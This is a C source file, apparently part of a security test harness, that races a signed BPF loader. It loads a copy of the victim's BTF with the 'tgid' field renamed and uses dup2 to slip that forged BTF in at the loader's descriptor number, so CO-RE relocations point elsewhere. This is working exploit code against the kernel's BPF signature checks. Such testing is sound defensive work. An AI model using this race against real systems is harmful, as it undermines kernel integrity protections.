// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - another BTF at the number of the signed one: CO-RE relocations aim elsewhere
 */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <linux/btf.h>
#include "race.h"

/* The signed BTF as it lies in the metadata, with the name of the field tgid changed if @rename. */
static int load_copy(const struct load *l, bool rename)
{
	static const unsigned char start[] = {0x9f, 0xeb, 1, 0};
	union bpf_attr attr = {0};
	const struct btf_header *h;
	uint32_t size;
	char *copy, *name;
	int fd = -ENOENT;

	h = memmem(l->data, l->data_sz, start, sizeof(start));
	if (!h)
		return -ENOENT;
	size = h->hdr_len + h->str_off + h->str_len;
	copy = malloc(size);
	memcpy(copy, h, size);
	name = memmem(copy + h->hdr_len + h->str_off, h->str_len, "\0tgid", 6);
	if (name && rename)
		name[1] = 'x';
	if (name || !rename) {
		attr.btf = (uintptr_t)copy;
		attr.btf_size = size;
		fd = race_high(sys_bpf(BPF_BTF_LOAD, &attr, 28));
	}
	free(copy);
	return fd;
}

/**
 * btf_before() - load the attacker's BTF
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int btf_before(struct race *r)
{
	if (!r->evil_btf)
		r->evil_btf = load_copy(&r->victim->load, true);
	return r->evil_btf < 0 ? r->evil_btf : 0;
}

/**
 * btf_copy_before() - load a BTF of the attacker that says nothing new
 * @r: the round
 *
 * Return: 0 or a negative errno.
 */
int btf_copy_before(struct race *r)
{
	if (!r->evil_btf)
		r->evil_btf = load_copy(&r->victim->load, false);
	return r->evil_btf < 0 ? r->evil_btf : 0;
}

/**
 * btf_number() - own BTF over the number of the loader's
 * @r: the round
 */
void btf_number(struct race *r)
{
	while (r->running && !number_open(r->base))
		race_step(r);
	if (r->running)
		dup2(r->evil_btf, r->base);
}
